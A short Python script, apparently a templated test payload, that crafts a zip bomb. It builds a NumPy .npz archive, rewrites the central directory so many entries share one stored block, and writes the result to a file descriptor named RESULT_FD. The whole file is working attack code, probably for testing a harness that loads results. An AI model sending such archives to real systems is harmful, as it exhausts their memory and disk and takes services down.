"""Sends a zip whose members share their bytes. SIZE: bytes of one; COUNT: how many claim them."""
import io
import os
import struct
import zipfile

import numpy as np

SIZE, COUNT = '@SIZE@', '@COUNT@'


def attack():
    content = io.BytesIO()
    np.savez(content, answer0=np.zeros(SIZE // 8))
    with zipfile.ZipFile(content) as archive:
        start = archive.start_dir
    whole = content.getvalue()
    entry, end = whole[start:-22], whole[-22:]
    entries = b''.join(entry.replace(b'answer0', b'%07d' % number) for number in range(COUNT))
    body = whole[:start].replace(b'answer0', b'0000000', 1)
    end = end[:8] + struct.pack('<HHII', COUNT, COUNT, len(entries), start) + end[20:]
    with open(int(os.environ['RESULT_FD']), 'wb') as out:
        out.write(body + entries + end)
    os._exit(0)


attack()
